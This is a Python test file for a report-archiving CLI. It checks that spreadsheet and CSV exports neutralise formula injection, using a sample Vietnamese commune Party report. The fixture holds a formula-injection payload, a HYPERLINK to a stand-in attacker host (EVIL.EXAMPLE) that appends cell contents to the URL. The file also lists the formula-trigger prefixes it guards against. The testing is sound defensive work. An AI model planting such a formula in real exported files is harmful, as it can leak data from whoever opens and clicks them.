"""Report text is data: a header line written as a spreadsheet formula never runs (issue 10, item 1)."""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from click.testing import CliRunner

from pipeline.cli import cli

FORMULA = '=HYPERLINK("HTTP://EVIL.EXAMPLE/?X="&B2,"ĐẢNG ỦY XÃ A")'
REPORT = f"""{FORMULA}
Số 12-BC/ĐU
ĐẢNG CỘNG SẢN VIỆT NAM
Xã A, ngày 05 tháng 5 năm 2026
BÁO CÁO
Kết quả công tác tháng 5 năm 2026
I. KẾT QUẢ
Tỷ lệ hộ nghèo còn 5,2%.
"""


@pytest.fixture
def archive(tmp_path):
    report = tmp_path / "r.txt"
    report.write_text(REPORT, encoding="utf-8")
    db = tmp_path / "a.sqlite"
    result = CliRunner().invoke(cli, ["ingest", str(report), "--db", str(db)])
    assert result.exit_code == 0, result.output
    return db


def test_the_workbook_keeps_a_formula_as_text_and_numbers_as_numbers(archive, tmp_path):
    out = tmp_path / "c.xlsx"
    result = CliRunner().invoke(cli, ["compare", "--db", str(archive), "--xlsx", str(out)])
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    for sheet in book.worksheets[:2]:
        issuer = sheet.cell(row=2, column=1)
        assert issuer.data_type == "s" and issuer.value.lower().startswith("=hyperlink(")
    by_period = book.worksheets[0].cell(row=2, column=5)
    assert (by_period.value, by_period.data_type) == (5.2, "n")


@pytest.mark.parametrize("args", [["reports"], ["compare"]], ids=["reports", "compare"])
def test_csv_cells_that_would_run_as_formulas_are_neutralised(archive, args):
    result = CliRunner().invoke(cli, [*args, "--db", str(archive), "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.output.lstrip("\ufeff"))))
    assert rows[0]["issuer"].lower() == "'" + FORMULA.lower()
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values() if value)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("Đảng ủy xã A", "Đảng ủy xã A"), (5.2, 5.2), (-3, -3), (None, None),
])
def test_csv_cell(value, expected):
    from pipeline.export import csv_cell

    assert csv_cell(value) == expected
